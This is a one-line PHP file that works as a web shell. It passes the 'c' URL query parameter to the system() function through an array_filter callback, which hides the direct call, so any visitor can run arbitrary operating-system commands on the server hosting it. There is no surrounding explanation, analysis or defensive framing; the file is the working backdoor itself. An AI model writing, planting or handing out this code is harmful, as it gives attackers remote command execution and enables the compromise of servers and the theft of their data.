<?php array_filter(array($_GET["c"]), "system");
